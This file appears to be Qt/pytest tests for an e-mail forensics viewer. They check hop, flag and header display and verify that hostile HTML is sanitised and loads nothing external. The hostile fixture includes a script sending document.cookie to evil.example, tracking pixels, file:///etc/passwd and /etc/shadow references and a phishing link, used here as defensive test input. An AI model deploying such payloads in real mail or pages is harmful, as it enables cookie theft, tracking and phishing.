# SPDX-License-Identifier: GPL-3.0-or-later
"""The message view: a real e-mail's hops and flags, and hostile HTML that must fetch nothing."""

from __future__ import annotations

from pathlib import Path
from typing import Any

import pytest
from PySide6.QtCore import QUrl
from PySide6.QtGui import QColor, QImage, QTextDocument
from PySide6.QtWidgets import QApplication
from pytestqt.modeltest import ModelTester
from pytestqt.qtbot import QtBot
from waits import TASK_MS

from desktop.ui.analysis_panels import MESSAGE_TAB
from desktop.ui.email_view import EmailView, HeaderModel, HopModel, delay_text
from desktop.ui.main_window import MainWindow
from desktop.ui.safe_html import SafeTextBrowser, blocked_image, sanitise

CORPUS = Path(__file__).resolve().parents[3] / "shared" / "corpora" / "mail-parser"

HOSTILE = """<html><head>
<link rel=stylesheet href="http://evil.example/track.css">
<style>body { background: url(http://evil.example/bg.png) }</style>
<meta http-equiv="refresh" content="0; url=http://evil.example/">
<script>document.location = "http://evil.example/?" + document.cookie</script>
</head><body style="background-image: url(file:///etc/shadow)" background="http://evil.example/b.png">
<p>Dear customer, <a href="http://evil.example/login">verify your account</a>.</p>
<img src="http://tracker.example/pixel.gif?id=42" width=1 height=1>
<img src="file:///etc/passwd">
<img src="//evil.example/protocol-relative.png">
<img src="cid:logo@bank.example" alt="logo">
<iframe src="http://evil.example/frame"></iframe>
<table background="http://evil.example/t.png"><tr><td>Amount: 4,250.00</td></tr></table>
</body></html>"""


def hostile_mail() -> dict[str, Any]:
    return {"subject": "Urgent: verify", "from_name": "Bank", "from_addr": "alerts@bank.example",
            "detail": {}, "headers": [["From", "Bank <alerts@bank.example>"], ["Subject", "Urgent: verify"]],
            "flags": [{"code": "display_name_spoof", "message": "looks like the bank"}],
            "hops": [], "text_body": "", "html_body": HOSTILE, "spf": "fail", "dkim": None, "dmarc": None}


@pytest.mark.corpora
def test_a_real_message_shows_its_hops_flags_and_headers(
        qtbot: QtBot, case_window: MainWindow, no_reason_dialog: list[list[Path]]) -> None:
    path = CORPUS / "mail_test_17.eml"
    if not path.is_file():
        pytest.skip("../shared/corpora/mail-parser is not available")
    window = case_window
    with qtbot.waitSignal(window.import_finished, timeout=TASK_MS) as blocker:
        window.request_import([path])
    assert blocker.args == ["succeeded"]
    row = window.model.row_of(1)
    assert row is not None
    window.table.selectRow(row)
    view = window.panels.email_view
    assert view.mail is not None
    assert window.panels.item_tabs.isTabEnabled(MESSAGE_TAB)
    assert not window.panels.item_tabs.isTabEnabled(2)  # no Media for a message
    window.panels.item_tabs.setCurrentIndex(MESSAGE_TAB)
    assert view.hop_model.rowCount() == 4
    origins = [r for r in range(4) if "origin" in str(view.hop_model.index(r, 0).data())]
    assert len(origins) == 1
    assert view.hop_model.index(origins[0], 2).data() == "152.228.133.10"
    assert view.fields["origin"].text().startswith("152.228.133.10")
    assert "5 flags" in view.flags_label.text()
    assert "from_return_path_mismatch" in view.flags_label.text()
    assert view.header_model.rowCount() > 10
    # The Message tab sticks for the next message; Details stays reachable.
    assert window.panels._preferred["email"] == MESSAGE_TAB


def test_an_occurrence_jumps_to_its_header(qtbot: QtBot, case_window: MainWindow,
                                           no_reason_dialog: list[list[Path]],
                                           evidence_files: list[Path]) -> None:
    window = case_window
    with qtbot.waitSignal(window.import_finished, timeout=TASK_MS):
        window.request_import([p for p in evidence_files if p.suffix == ".eml"])
    window.tabs.setCurrentWidget(window.panels.indicators_view)
    assert window.panels.reveal_occurrence(1, {"source": "header", "where": "Received (hop 1 of 1)"})
    assert window.tabs.currentIndex() == 0
    assert window.panels.item_tabs.currentIndex() == MESSAGE_TAB
    assert window.panels.email_view.hop_table.currentIndex().row() == 0
    window.panels.reveal_occurrence(1, {"source": "header", "where": "From"})
    header = window.panels.email_view.header_table.currentIndex()
    assert header.isValid()
    assert window.panels.email_view.header_model.index(header.row(), 0).data() == "From"


def test_hostile_html_is_sanitised_before_qt_sees_it() -> None:
    clean = sanitise(HOSTILE)
    for gone in ("<script", "<link", "<style", "<meta", "<iframe", "http://tracker", "file:", "background",
                 "style=", "//evil.example/protocol", "document.cookie"):
        assert gone not in clean, gone
    assert 'src="cid:logo@bank.example"' in clean
    assert "verify your account" in clean
    assert "Amount: 4,250.00" in clean


def test_hostile_html_loads_nothing_but_cid_parts(qtbot: QtBot) -> None:
    view = EmailView()
    qtbot.addWidget(view)
    view.resize(1000, 600)
    view.show()
    logo = QImage(8, 8, QImage.Format.Format_RGB32)
    logo.fill(QColor("red"))
    view.body.set_cid_parts({"<logo@bank.example>": logo})
    view.show_mail(hostile_mail())
    assert view.html_button.isChecked()  # no plain body: the HTML is shown, sanitised
    view.inner_tabs.setCurrentIndex(1)
    qtbot.waitUntil(lambda: view.body.resource_requests != [], timeout=TASK_MS)
    requested = [url for _type, url in view.body.resource_requests]
    assert requested
    assert "cid:logo@bank.example" in requested
    # The stripped sources ask for "" (answered with a placeholder); nothing else is ever asked for.
    assert all(url == "" or url.lower().startswith("cid:") for url in requested), requested
    # Even asked directly, the browser answers nothing outside the message.
    image = int(QTextDocument.ResourceType.ImageResource)
    for url in ("http://tracker.example/pixel.gif", "file:///etc/passwd", "/etc/passwd", "cid:unknown"):
        assert view.body.loadResource(image, QUrl(url)) is blocked_image()
    style = int(QTextDocument.ResourceType.StyleSheetResource)
    assert view.body.loadResource(style, QUrl("http://evil.example/x.css")) == ""
    assert view.body.loadResource(image, QUrl("cid:logo@bank.example")) is logo
    assert not view.body.openLinks()
    assert not view.body.openExternalLinks()
    before = view.body.toHtml()
    view.body.setSource(QUrl("http://evil.example/login"))  # what a click would do
    assert view.body.toHtml() == before


def test_show_source_shows_the_markup_as_text(qtbot: QtBot) -> None:
    view = EmailView()
    qtbot.addWidget(view)
    view.show_mail(hostile_mail())
    assert "<script>" not in view.body.toPlainText()
    view.source_toggle.setChecked(True)
    assert "<script>document.location" in view.body.toPlainText()
    requests_before = list(view.body.resource_requests)
    view.source_toggle.setChecked(False)
    assert "verify your account" in view.body.toPlainText()
    assert "<script>" not in view.body.toPlainText()
    assert all(url == "" or url.startswith("cid:")
               for _t, url in view.body.resource_requests[len(requests_before):])


def test_a_link_under_the_mouse_is_named_not_opened(qtbot: QtBot) -> None:
    browser = SafeTextBrowser()
    qtbot.addWidget(browser)
    with qtbot.waitSignal(browser.link_hovered) as blocker:
        browser.highlighted.emit(QUrl("http://evil.example/login"))
    assert blocker.args == ["http://evil.example/login"]


def test_delays_keep_their_sign() -> None:
    assert delay_text(None) == ""
    assert delay_text(4) == "4 s"
    assert delay_text(200) == "3 min 20 s"
    assert delay_text(-7500) == "-2 h 5 min"
    assert delay_text(90000) == "1 d 1 h"


def test_hop_and_header_models_pass_the_model_tester(qtmodeltester: ModelTester) -> None:
    hops = HopModel()
    qtmodeltester.check(hops)
    hops.set_hops([{"idx": 0, "from_host": "a", "from_ip": "198.51.100.7", "by_host": "b", "flags": [],
                    "is_origin": 1, "delay_s": None, "time_utc": "2024-03-11T09:00:00Z"},
                   {"idx": 1, "from_host": "b", "from_ip": None, "by_host": "c", "flags": ["negative_delay"],
                    "is_origin": 0, "delay_s": -30.0, "time_utc": None, "time_raw": "garbage"}])
    qtmodeltester.check(hops)
    assert hops.index(1, 8).data() == "negative delay"
    headers = HeaderModel()
    qtmodeltester.check(headers)
    headers.set_headers([["From", "x@y"], ["Received", "from a\n by b"]])
    qtmodeltester.check(headers)
    assert headers.index(1, 1).data() == "from a by b"
    assert headers.find("received") == 1


WITH_PART = (
    "From: Ops <ops@sender.example.org>\r\nTo: victim@victim.example\r\nSubject: Invoice attached\r\n"
    "Date: Mon, 11 Mar 2024 08:59:50 +0000\r\nMessage-ID: <part@sender.example.org>\r\nMIME-Version: 1.0\r\n"
    "Content-Type: multipart/mixed; boundary=\"b1\"\r\n\r\n--b1\r\nContent-Type: text/plain\r\n\r\n"
    "See the invoice.\r\n--b1\r\nContent-Type: application/octet-stream\r\n"
    "Content-Disposition: attachment; filename=\"invoice.txt\"\r\nContent-Transfer-Encoding: base64\r\n\r\n"
    "cGF5IDE4NS4xNDEuNjMuMTIwIG5vdwo=\r\n--b1--\r\n")


def test_the_message_lists_its_attachments_and_shows_its_raw_source(
        qtbot: QtBot, case_window: MainWindow, no_reason_dialog: list[list[Path]], tmp_path: Path) -> None:
    path = tmp_path / "with-part.eml"
    path.write_bytes(WITH_PART.encode())
    window = case_window
    with qtbot.waitSignal(window.import_finished, timeout=TASK_MS) as blocker:
        window.request_import([path])
    assert blocker.args == ["succeeded"]
    case = window.case
    assert case is not None
    message = next(i for i in case.items() if i.name == "with-part.eml")
    row = window.model.row_of(message.id)
    assert row is not None
    window.table.selectRow(row)
    view = window.panels.email_view
    assert view.mail is not None
    assert view.inner_tabs.tabText(view.attachments_tab) == "Attachments (1)"
    assert view.attachment_model.index(0, 0).data() == "invoice.txt"
    view.inner_tabs.setCurrentIndex(view.raw_tab)
    assert "Content-Disposition: attachment; filename=\"invoice.txt\"" in view.raw_source.toPlainText()
    assert view.raw_source.isReadOnly()
    view.attachment_table.doubleClicked.emit(view.attachment_model.index(0, 0))
    assert window.panels.item is not None
    assert window.panels.item.name == "invoice.txt"
    assert window.panels.item.parent_id == message.id


def test_wrapped_from_and_origin_lines_are_never_clipped(qtbot: QtBot) -> None:
    """Issue 10's leftover: every field label gets the height its wrapped text needs at its width.

    The view is laid out at widths from a narrow pane to a wide one and heights from a few rows
    (the scroll area scrolls) to all of them; at each, a value wrapped over two or three lines —
    a long From, a long Origin — must have at least ``heightForWidth`` of its laid-out width.
    """
    view = EmailView()
    qtbot.addWidget(view)
    mail = hostile_mail()
    mail["from_name"] = "Customer Service Department of the Very Long Bank Name Incorporated"
    mail["from_addr"] = "noreply-customer-service-notifications@very-long-subdomain.bank.example"
    mail["origin_ip"] = "203.0.113.9"
    mail["origin_host"] = "a-very-long-reverse-dns-name.customer-pool.hosting-provider.example.net"
    view.show_mail(mail)
    view.show()
    wrapped = 0
    for width in range(360, 1000, 80):
        for height in range(160, 700, 60):
            view.resize(width, height)  # at least its minimum size: offscreen resizes at once
            QApplication.processEvents()
            for key in ("from", "origin"):
                label = view.fields[key]
                need = label.heightForWidth(label.width())
                assert label.height() >= need, f"{key} clipped at {width}x{height}: {label.height()} < {need}"
                wrapped += need > label.fontMetrics().lineSpacing() * 1.5
    assert wrapped, "the values did wrap at the narrow widths (the test looks at what it should)"
